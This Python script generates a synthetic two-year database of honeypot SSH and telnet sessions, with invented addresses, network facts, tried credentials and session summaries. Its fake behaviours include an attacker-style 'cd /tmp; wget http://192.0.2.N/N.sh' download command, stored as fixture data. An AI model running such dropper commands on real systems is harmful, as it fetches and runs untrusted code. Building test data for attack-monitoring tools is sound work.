"""Make a large database of sealed sessions over two years, as loads of many logs would leave it."""

import random
from bisect import bisect_right
from collections import Counter
from collections.abc import Iterator, Sequence
from contextlib import closing
from datetime import UTC, datetime, timedelta
from functools import lru_cache
from hashlib import sha256
from ipaddress import IPv4Address
from itertools import accumulate
from typing import Any, NamedTuple

from sqlalchemy import Connection, select

from snapshots.adapters.intel.network_types import open_network_types
from snapshots.adapters.sql.connection.datetimes import timestamp_text
from snapshots.adapters.sql.database import SqlDatabase
from snapshots.adapters.sql.rows.row_decoder import digest_of_source
from snapshots.adapters.sql.rows.session_encoder import COLUMNS, SessionRows
from snapshots.adapters.sql.schema.tables import fact_sources, session_summaries
from snapshots.adapters.sql.stores.seal_counts import count_seals
from snapshots.domain.address.source_ip import IpAddress, Sighting, SightingKind
from snapshots.domain.facts.ip_type import IpType
from snapshots.domain.facts.network_types import NetworkTypes
from snapshots.domain.facts.observation import label_of
from snapshots.domain.session.behaviour import Behaviour, Trait, login
from snapshots.domain.session.logins import credentials_number
from snapshots.domain.session.summary import SessionSummary
from snapshots.domain.snapshot.fact_methods import source_text
from snapshots.domain.snapshot.gap import Gap
from snapshots.domain.snapshot.snapshot import IpSnapshot, Method

END = datetime(2026, 11, 20, tzinfo=UTC)
BEGIN = END - timedelta(days=730)
TABLES = [datetime(2025 + n // 12, 1 + n % 12, 1, 23, 59, 59, tzinfo=UTC) for n in range(1, 23)]
"""Builds of the tables of ASN and country, one a month; before the first, facts are inferred."""
LISTS = [BEGIN + timedelta(hours=12 * n) for n in range(2 * 729)]
"""Builds of the list of Tor exits."""
SOURCES = (("dbip", "mmdb", TABLES), ("tor-exits", "list:TOR", LISTS))
COUNTRIES = ("CN", "US", "DE", "BR", "IN", "NL", "FR", "VN", "RU", "TH", "SG", "HK", "GB", "KR", "ID")
NETWORKS = 700
USERS = ["root", "admin", "ubuntu", "pi", "test", *(f"user{n}" for n in range(300))]
CREDENTIALS = 20_000
"""Pairs of user name and password that are tried, a few of them far more often than the others."""
PAGE = 20_000


@lru_cache(maxsize=1)
def bundled_network_types() -> NetworkTypes:
    """Return the types by network that come with the program."""
    return open_network_types()


class Address(NamedTuple):
    """An address with the facts about it, its network after a move, and the days on which it attacks."""

    text: str
    asn: int
    country: str
    moved_to: int | None
    is_tor: bool
    first_day: float
    days: float


def build(url: str, sessions: int, addresses: int) -> None:
    """Make the tables, and fill them."""
    chance = random.Random(26)
    known = list(_addresses(chance, addresses))
    database = SqlDatabase(url)
    database.migrate()
    database.drop_query_indexes()
    counts: Counter[str] = Counter()
    with closing(database), database.engine.begin() as connection:
        if connection.dialect.name == "sqlite":
            connection.exec_driver_sql("PRAGMA cache_size = -3000000")  # else each page is written many times
        _put(connection, "known_addresses", [_address_row(each, connection) for each in known])
        _register(connection)
        _put(connection, "ip_observations", _observation_rows(known, connection))
        tried = _credentials(chance)
        _put(connection, "credentials", tried)
        weights = list(accumulate(1 / rank for rank in range(1, len(tried) + 1)))
        numbers = [row["credentials_number"] for row in tried]
        for rows in _session_pages(chance, known, sessions, connection):
            for row in rows:
                counts[row["source_ip"]] += 1
            _put(connection, "session_summaries", rows)
            _put(connection, "session_logins", _login_rows(chance, rows, numbers, weights))
        _count(connection, counts)
    database.build_indexes()
    with database.engine.connect().execution_options(isolation_level="AUTOCOMMIT") as connection:
        is_pg = connection.dialect.name == "postgresql"
        connection.exec_driver_sql("VACUUM ANALYZE" if is_pg else "ANALYZE")
        if not is_pg:
            connection.exec_driver_sql("PRAGMA wal_checkpoint(TRUNCATE)")
    database.close()


def _addresses(chance: random.Random, count: int) -> Iterator[Address]:
    numbers = iter(sorted(chance.sample(range(16_777_216, 3_700_000_000), count * 5 // 4)))
    typed = sorted({asn for each in bundled_network_types().builds for asn in each.types})
    networks = chance.sample(typed, NETWORKS * 2 // 3) + chance.sample(range(300_000, 400_000), NETWORKS // 3)
    chance.shuffle(networks)
    homes = {asn: chance.choice(COUNTRIES) for asn in networks}
    weights = list(accumulate(1 / rank for rank in range(1, len(networks) + 1)))
    found = 0
    while found < count:
        address = IpAddress.parse(str(IPv4Address(next(numbers))))
        if not address.is_routable:
            continue
        found += 1
        asn, other = chance.choices(networks, cum_weights=weights, k=2)
        yield Address(
            address.text,
            asn,
            homes[asn],
            other if chance.random() < 0.08 else None,
            chance.random() < 0.02,
            chance.random() * 730,
            min(730.0, chance.paretovariate(0.6)),
        )


def _register(connection: Connection) -> None:
    builds = [(name, form, at) for name, form, times in SOURCES for at in times]
    builds += [(each.build.name, each.build.form, each.build.built_at) for each in bundled_network_types().builds]
    rows = [
        {"source": name, "built_at": at, "number": number, "form": form, "licence": "made", "origin": ""}
        | {"sha256": sha256(f"{name}{at}".encode()).hexdigest(), "registered_at": at + timedelta(hours=1)}
        for number, (name, form, at) in enumerate(builds, 1)
    ]
    connection.execute(fact_sources.insert(), [row | {"digest": digest_of_source(row)} for row in rows])


def _stored(connection: Connection, at: datetime) -> datetime | str:
    return timestamp_text(at) if connection.dialect.name == "sqlite" else at


def _address_row(each: Address, connection: Connection) -> dict[str, object]:
    begin, newest = (_stored(connection, at) for at in (BEGIN, TABLES[-1]))
    types = bundled_network_types()
    asn = each.moved_to or each.asn
    of_network = next((b.types[asn] for b in types.builds if asn in b.types), None)
    typed_at = _stored(connection, LISTS[-1]) if each.is_tor else _stored(connection, types.builds[0].build.built_at)
    has_type = each.is_tor or of_network is not None
    return {
        "ip_address": each.text,
        "current_asn": asn,
        "current_country": each.country,
        "current_ip_type": "TOR" if each.is_tor else of_network.value if of_network is not None else None,
        "current_asn_at": newest,
        "current_country_at": newest,
        "current_ip_type_at": typed_at if has_type else newest,
        "enrichment_updated_at": newest,
        "first_seen": _stored(connection, BEGIN),
        "last_seen": _stored(connection, min(END, BEGIN + timedelta(days=each.first_day + each.days))),
        "session_count": 0,
        "looked_up_until": len(TABLES) + len(LISTS) + 1,
        "learned_at": begin,
        "newest_at": newest,
        "created_at": begin,
        "updated_at": begin,
    }


MOVE = 12
"""Number of the table in which addresses appear in another network."""


def _observation_rows(known: Sequence[Address], connection: Connection) -> list[dict[str, object]]:
    def row(each: Address, source: str, since: datetime, until: datetime, *facts: object) -> dict[str, object]:
        times = {"observed_at": since, "confirmed_until": until, "learned_at": until}
        asn, country, ip_types = facts
        return (
            {"ip_address": each.text, "source": source}
            | {name: _stored(connection, at) for name, at in times.items()}
            | {"asn": asn, "country": country, "ip_types": ip_types}
        )

    rows = []
    for each in known:
        last = TABLES[MOVE - 1] if each.moved_to else TABLES[-1]
        rows.append(row(each, "dbip", TABLES[0], last, each.asn, each.country, ""))
        if each.moved_to:
            rows.append(row(each, "dbip", TABLES[MOVE], TABLES[-1], each.moved_to, each.country, ""))
        if each.is_tor:
            rows.append(row(each, "tor-exits", LISTS[0], LISTS[-1], None, None, "TOR"))
    return rows


def _credentials(chance: random.Random) -> list[dict[str, object]]:
    found: dict[int, dict[str, object]] = {}
    for n in range(CREDENTIALS):
        user = chance.choice(USERS)
        password_hash = sha256(f"pass{n}".encode()).hexdigest()
        number = credentials_number(user, password_hash)
        found[number] = {"credentials_number": number, "username": user, "password_hash": password_hash}
    return list(found.values())


def _login_rows(
    chance: random.Random, rows: Sequence[dict[str, Any]], numbers: Sequence[object], weights: Sequence[float]
) -> list[dict[str, object]]:
    """Return the login attempts of sessions, each with other credentials."""
    return [
        {"session_id": row["session_id"], "credentials_number": number, "attempts": 1, "successes": 0}
        for row in rows
        for number in {*chance.choices(numbers, cum_weights=weights, k=row["login_attempts"])}
    ]


def _behaviours(chance: random.Random) -> list[Behaviour]:
    found = []
    for n in range(3_000):
        commands = [f"cd /tmp; wget http://192.0.2.{n % 200}/{n % 40}.sh", "uname -a", f"echo {n % 90}"]
        at = BEGIN
        found.append(
            Behaviour.of(
                [
                    (at, ((Trait.PROTOCOL, chance.choice(("ssh", "ssh", "telnet"))),)),
                    (at, ((Trait.CLIENT_VERSION, f"SSH-2.0-libssh_0.{n % 30}"), (Trait.HASSH, f"{n % 45:032x}"))),
                    (at, login(USERS[min(n // 3, 304) * n % 305], f"pass{n % 1500}", succeeded=False)),
                    (at, ((Trait.DURATION, str(chance.randrange(1, 99))),)),
                    *((at, ((Trait.COMMAND, text),)) for text in (commands[: n % 4])),
                ]
            )
        )
    return found


@lru_cache(maxsize=500_000)
def _snapshot(asn: int, country: str, table: int, listed: int | None, *, is_later: bool, far: bool) -> IpSnapshot:
    at = TABLES[table]
    labels, enrichment_at = dict.fromkeys(("asn", "country"), label_of("dbip", at)), at
    ip_type, method = None, Method.INFERRED if is_later else Method.ASOF
    of_network = bundled_network_types().builds[0]
    if listed is not None:
        ip_type, enrichment_at = IpType.TOR, max(at, LISTS[listed])
        labels["ip_type"] = label_of("tor-exits", LISTS[listed])
    elif asn in of_network.types and not far:
        ip_type, enrichment_at = of_network.types[asn], max(at, of_network.build.built_at)
        labels["ip_type"] = of_network.build.label
        method = Method.INFERRED
    source = source_text(labels)
    return IpSnapshot(
        asn=asn, country=country, ip_type=ip_type, enrichment_at=enrichment_at, method=method, source=source
    )


def _verdict(chance: random.Random, each: Address, at: datetime) -> IpSnapshot | Gap:
    if chance.random() < 0.03:
        return chance.choice((Gap.NOTHING_KNOWN, Gap.EXPIRED))
    table = max(0, bisect_right(TABLES, at) - 1)
    asn = each.moved_to if each.moved_to and table >= MOVE else each.asn
    listed = max(0, bisect_right(LISTS, at) - 1) if each.is_tor else None
    built_at = bundled_network_types().builds[0].build.built_at
    far = not at < built_at <= at + timedelta(days=180)
    return _snapshot(asn, each.country, table, listed, is_later=at < TABLES[0], far=far)


def _session_pages(
    chance: random.Random, known: Sequence[Address], sessions: int, connection: Connection
) -> Iterator[list[dict[str, object]]]:
    """Yield rows in the order of their times."""
    behaviours = _behaviours(chance)
    # The first sessions are one of each address; the others are heavy-tailed.
    heavy = list(accumulate(1 / rank**0.9 for rank in range(1, len(known) + 1)))
    order = chance.sample(range(len(known)), len(known))
    chosen = list(range(min(len(known), sessions)))
    chosen += (order[n] for n in chance.choices(range(len(known)), cum_weights=heavy, k=sessions - len(chosen)))
    times = []
    for at in chosen:
        each = known[at]
        day = each.first_day + chance.random() * min(each.days, 730 - each.first_day)
        times.append((day, at))
    times.sort()
    addresses = [IpAddress(each.text) for each in known]
    stored = timestamp_text if connection.dialect.name == "sqlite" else lambda at: at
    for begin in range(0, len(times), PAGE):
        page, rows = times[begin : begin + PAGE], []
        saved_at = BEGIN + timedelta(days=page[-1][0], hours=1)
        run = f"00000000-0000-4000-8000-{saved_at:%Y%m}000000"
        encoder, sealed = SessionRows(run, saved_at, stored, BEGIN), 0
        for day, at in page:
            moment = BEGIN + timedelta(microseconds=int(day * 86_400_000_000))
            verdict = _verdict(chance, known[at], moment)
            summary = SessionSummary(
                session_id=f"{chance.getrandbits(48):012x}",
                first_event_at=moment,
                last_event_at=moment + timedelta(seconds=chance.randrange(1, 99)),
                event_count=8,
                sighting=Sighting(addresses[at], moment, SightingKind.CONNECT, chance.randrange(1024, 65536)),
                command_count=chance.randrange(3),
                login_attempts=chance.randrange(4),
                sensor=f"pot-{at % 5}",
                sensor_id=f"00000000-0000-4000-8000-00000000000{at % 5}",
                fingerprints=frozenset(chance.getrandbits(64) for _ in range(8)),
                snapshot=verdict if isinstance(verdict, IpSnapshot) else None,
                gap=verdict if isinstance(verdict, Gap) else None,
                behaviour=chance.choice(behaviours),
            )
            sealed += summary.snapshot is not None
            rows.append(dict(zip(COLUMNS, encoder.row(summary), strict=True)))
        count_seals(connection, run, sealed)
        yield rows


def _count(connection: Connection, counts: Counter[str]) -> None:
    mark = "%s" if connection.dialect.name == "postgresql" else "?"
    cursor = connection.connection.cursor()
    cursor.executemany(
        f"UPDATE known_addresses SET session_count = {mark} WHERE ip_address = {mark}",
        [(count, address) for address, count in counts.items()],
    )
    cursor.close()


def _put(connection: Connection, table: str, rows: Sequence[dict[str, object]]) -> None:
    columns = ", ".join(rows[0])
    cursor = connection.connection.cursor()
    if connection.dialect.name == "postgresql":
        with cursor.copy(f"COPY {table} ({columns}) FROM STDIN") as copy:
            for row in rows:
                copy.write_row(tuple(row.values()))
    else:
        marks = ", ".join("?" * len(rows[0]))
        cursor.executemany(f"INSERT INTO {table} ({columns}) VALUES ({marks})", [tuple(row.values()) for row in rows])
    cursor.close()


def sample_session(url: str) -> str:
    """Return the id of a session."""
    with closing(SqlDatabase(url)) as database, database.reading() as connection:
        query = select(session_summaries.c.session_id).order_by(session_summaries.c.session_id).limit(1)
        return str(connection.execute(query).scalar_one())
